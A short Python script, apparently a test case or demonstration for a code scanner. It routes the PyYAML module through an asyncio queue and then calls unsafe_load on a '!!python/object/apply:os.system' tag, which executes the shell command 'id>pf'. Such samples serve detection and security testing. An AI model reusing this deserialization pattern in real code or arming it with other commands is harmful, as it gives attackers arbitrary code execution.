import asyncio, yaml
async def main():
    q = asyncio.Queue()
    await q.put(yaml)
    (await q.get()).unsafe_load("!!python/object/apply:os.system [id>pf]")
asyncio.run(main())
